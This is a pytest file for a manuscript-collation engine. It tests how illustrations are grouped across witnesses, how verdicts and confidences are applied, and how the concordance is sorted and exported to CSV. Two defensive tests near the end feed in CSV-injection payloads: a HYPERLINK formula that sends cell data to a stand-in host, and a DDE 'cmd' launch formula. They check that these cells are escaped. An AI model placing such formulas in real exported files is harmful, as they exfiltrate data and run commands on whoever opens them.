"""The concordance of many witnesses (collation.engine.concordance): grouping, conflicts, verdicts,
confidences, sorting and the CSV."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from collation.core.errors import InputError
from collation.core.options import CollationOptions
from collation.core.vocabulary import CATEGORIES, is_match, verdict_category
from collation.engine.concordance import PairEvidence, build_groups, concordance_csv, pair_confidence, sort_groups
from collation.engine.correspondences import collate


def diagonal(n0: int, n1: int, shift: int = 0) -> np.ndarray:
    """Scores that put i of the first witness with i + shift of the second."""
    s = np.full((n0, n1), 0.1)
    for i in range(n0):
        if 0 <= i + shift < n1:
            s[i, i + shift] = 0.9
    return s


def evidence_of(scores: dict, verdicts: dict | None = None, propagation: str = "2-cycles") -> dict:
    results = collate(scores, propagation=propagation)
    return {
        pair: PairEvidence(r.P_S, np.concatenate([r.two_cycles, r.three_cycles]), (verdicts or {}).get(pair, {}))
        for pair, r in results.items()
    }


def ends(groups: list) -> list[list[tuple[int, int]]]:
    return [[(x.manuscript, x.position) for x in g.members] for g in groups]


def test_verdict_categories_and_aliases() -> None:
    assert [verdict_category(v) for v in ("confirmed", "rejected", *CATEGORIES)] == [
        "exact",
        "none",
        "exact",
        "partial",
        "semantic",
        "none",
    ]
    assert [is_match(v) for v in CATEGORIES] == [True, True, True, False]
    with pytest.raises(InputError):
        verdict_category("maybe")


def test_three_witnesses_form_triplets_and_lone_illustrations_are_rows() -> None:
    # witness 2 lacks illustration 0 of the others: it starts at their illustration 1
    scores = {(0, 1): diagonal(4, 4), (0, 2): diagonal(4, 3, -1), (1, 2): diagonal(4, 3, -1)}
    groups = build_groups({0: 4, 1: 4, 2: 3}, evidence_of(scores))
    assert ends(groups) == [
        [(0, 0), (1, 0)],
        [(0, 1), (1, 1), (2, 0)],
        [(0, 2), (1, 2), (2, 1)],
        [(0, 3), (1, 3), (2, 2)],
    ]
    assert all(x.confidence == 1.0 for g in groups for x in g.members)
    assert all(g.confidence == 1.0 for g in groups)


def test_at_most_one_member_per_witness_and_the_stronger_link_wins() -> None:
    # 0:0 is mutual best with 1:0; 2:0 is mutual best with 0:0 and with 1:1, which would bring a second
    # illustration of witness 1 into the group: that weaker link is skipped
    s01 = np.array([[0.9, 0.1], [0.1, 0.9]])
    s02 = np.array([[0.8], [0.1]])
    s12 = np.array([[0.1], [0.7]])
    ev = {
        (0, 1): PairEvidence(s01, np.array([[0, 0], [1, 1]]), {}),
        (0, 2): PairEvidence(s02, np.array([[0, 0]]), {}),
        (1, 2): PairEvidence(s12, np.array([[1, 0]]), {}),
    }
    groups = build_groups({0: 2, 1: 2, 2: 1}, ev)
    assert ends(groups) == [[(0, 0), (1, 0), (2, 0)], [(0, 1), (1, 1)]]
    member = groups[0].member(1)
    assert member.confidence == pytest.approx((1.0 + pair_confidence(ev, (1, 0), (2, 0))) / 2)
    assert pair_confidence(ev, (1, 0), (2, 0)) == pytest.approx((0.1 / 0.1 + 0.1 / 0.7) / 2)


def test_min_score_drops_weak_automatic_links_but_not_expert_ones() -> None:
    s = diagonal(3, 3)
    s[2, 2] = 0.3
    ev = {(0, 1): PairEvidence(s, np.array([[0, 0], [1, 1], [2, 2]]), {})}
    assert ends(build_groups({0: 3, 1: 3}, ev, min_score=0.5)) == [
        [(0, 0), (1, 0)],
        [(0, 1), (1, 1)],
        [(0, 2)],
        [(1, 2)],
    ]
    ev = {(0, 1): PairEvidence(s, np.array([[0, 0], [1, 1], [2, 2]]), {(2, 2): "partial"})}
    groups = build_groups({0: 3, 1: 3}, ev, min_score=0.5)
    assert ends(groups)[-1] == [(0, 2), (1, 2)]
    assert [x.verdict for x in groups[-1].members] == ["partial", "partial"]
    assert groups[-1].confidence == 1.0


def test_no_match_splits_a_group_and_match_verdicts_join_them() -> None:
    scores = {(0, 1): diagonal(3, 3), (0, 2): diagonal(3, 3), (1, 2): diagonal(3, 3)}
    verdicts = {(0, 1): {(0, 0): "none"}, (1, 2): {(2, 1): "semantic"}}
    groups = build_groups({0: 3, 1: 3, 2: 3}, evidence_of(scores, verdicts))
    # 0:0 and 1:0 may not share a group; 1:0-2:0 and 0:0-2:0 compete: the first in order wins
    assert [(0, 0), (1, 0)] not in [g[:2] for g in ends(groups)]
    assert sum(len(g) for g in ends(groups)) == 9
    # the semantic verdict outranks the automatic links: 1:2 joins 2:1, so 2:1 leaves 0:1 and 1:1
    assert [(1, 2), (2, 1)] in [g[1:] for g in ends(groups)] or [(0, 2), (1, 2), (2, 1)] in ends(groups)
    grouped = {e: g for g in groups for e in [(x.manuscript, x.position) for x in g.members]}
    assert grouped[(1, 2)].member(2).position == 1 and grouped[(1, 2)].member(1).verdict == "semantic"


def test_sort_by_any_witness() -> None:
    scores = {(0, 1): diagonal(3, 3), (0, 2): diagonal(3, 2, -1), (1, 2): diagonal(3, 2, -1)}
    groups = build_groups({0: 3, 1: 3, 2: 2}, evidence_of(scores))
    by2 = sort_groups(groups, 2, [0, 1, 2])
    assert ends(by2) == [[(0, 1), (1, 1), (2, 0)], [(0, 2), (1, 2), (2, 1)], [(0, 0), (1, 0)]]
    assert ends(sort_groups(groups, 0, [0, 1, 2])) == ends(groups)


def test_bad_evidence_is_an_input_error() -> None:
    with pytest.raises(InputError):
        build_groups({0: 2, 1: 2}, {(0, 1): PairEvidence(np.zeros((2, 3)), np.zeros((0, 2)), {})})
    with pytest.raises(InputError):
        build_groups({0: 2, 1: 2}, {(1, 0): PairEvidence(np.zeros((2, 2)), np.zeros((0, 2)), {})})
    with pytest.raises(InputError):
        build_groups({0: 2, 1: 2}, {(0, 1): PairEvidence(np.zeros((2, 2)), np.zeros((0, 2)), {(0, 0): "confirmed"})})


def test_csv_has_one_row_per_group_and_the_cells_of_each_witness() -> None:
    rows = [
        {
            "id": "0-0",
            "size": 2,
            "confidence": 0.5,
            "cells": [
                {
                    "index": 0,
                    "label": "f. 1r",
                    "canvas": "c0",
                    "xywh": [1, 2, 3, 4],
                    "image": "http://i/0",
                    "confidence": 0.5,
                    "verdict": None,
                },
                None,
            ],
        }
    ]
    table = list(csv.reader(io.StringIO(concordance_csv(rows, ["A", "B"]))))
    assert table[0][:4] == ["group", "size", "confidence", "A index"] and len(table[0]) == 3 + 2 * 7 + 1
    assert table[1][:9] == ["0-0", "2", "0.5000", "0", "f. 1r", "c0", "1,2,3,4", "http://i/0", "0.5000"]
    assert table[1][10:] == [""] * 7 + [""]


def test_collate_match_writes_the_same_concordance_csv(tmp_path) -> None:
    from PIL import Image

    from collation.engine.illustrations import Illustration
    from collation.engine.outputs import write_results
    from collation.engine.pipeline import CollationResult, Manuscript

    def witness(name: str, n: int) -> Manuscript:
        image = Image.new("RGB", (8, 8))
        return Manuscript(
            name, [Illustration(f"{name}-{k}.png", f"{k}", image, {"file": f"/crops/{name}/{k}.png"}) for k in range(n)]
        )

    scores = {(0, 1): diagonal(3, 3), (0, 2): diagonal(3, 2, -1), (1, 2): diagonal(3, 2, -1)}
    result = CollationResult(
        [witness("A", 3), witness("B", 3), witness("C", 2)],
        CollationOptions(propagation="3-cycles"),
        collate(scores, propagation="3-cycles"),
    )
    table = list(csv.reader(io.StringIO((write_results(result, tmp_path) / "concordance.csv").read_text())))
    assert table[0][:4] == ["group", "size", "confidence", "A index"] and len(table[0]) == 3 + 3 * 7 + 1
    assert [row[:3] for row in table[1:]] == [["0-0", "2", "1.0000"], ["0-1", "3", "1.0000"], ["0-2", "3", "1.0000"]]
    assert table[2][3:6] == ["1", "A-1.png", "/crops/A/1.png"] and table[2][17:19] == ["0", "C-0.png"]


def test_csv_cells_that_start_a_formula_are_quoted() -> None:
    """OWASP "CSV injection": a cell beginning with = + - @, a tab or a carriage return gets a leading
    single quote; every other cell is written as it was."""
    labels = ['=HYPERLINK("http://x.test/?d="&A2,"f. 1r")', "@SUM(1+1)", "+1", "-1", "\t=1", "\r=1", "f. 2v", "0012"]
    cell = {"index": 0, "canvas": "c0", "xywh": [1, 2, 3, 4], "image": None, "confidence": None, "verdict": None}
    rows = [
        {"id": f"0-{k}", "size": 1, "confidence": None, "cells": [{**cell, "label": label}]}
        for k, label in enumerate(labels)
    ]
    table = list(csv.reader(io.StringIO(concordance_csv(rows, ["=A"]), newline="")))
    assert table[0][3] == "'=A index"
    assert [row[4] for row in table[1:]] == [f"'{label}" for label in labels[:6]] + ["f. 2v", "0012"]


def test_collate_match_quotes_formula_cells_of_its_concordance_csv(tmp_path) -> None:
    """The command line's ``concordance.csv``: witness names and file names that start a formula."""
    from PIL import Image

    from collation.engine.illustrations import Illustration
    from collation.engine.outputs import write_results
    from collation.engine.pipeline import CollationResult, Manuscript

    def witness(name: str, files: list[str]) -> Manuscript:
        image = Image.new("RGB", (8, 8))
        return Manuscript(name, [Illustration(f, f"{k}", image, {"file": f"/crops/{f}"}) for k, f in enumerate(files)])

    result = CollationResult(
        [witness("@A", ["=cmd|' /C calc'!A0.png", "-1.png"]), witness("B", ["+2.png", "b.png"])],
        CollationOptions(),
        collate({(0, 1): diagonal(2, 2)}),
    )
    table = list(csv.reader(io.StringIO((write_results(result, tmp_path) / "concordance.csv").read_text(), newline="")))
    assert table[0][3] == "'@A index"
    assert [(row[4], row[11]) for row in table[1:]] == [("'=cmd|' /C calc'!A0.png", "'+2.png"), ("'-1.png", "b.png")]
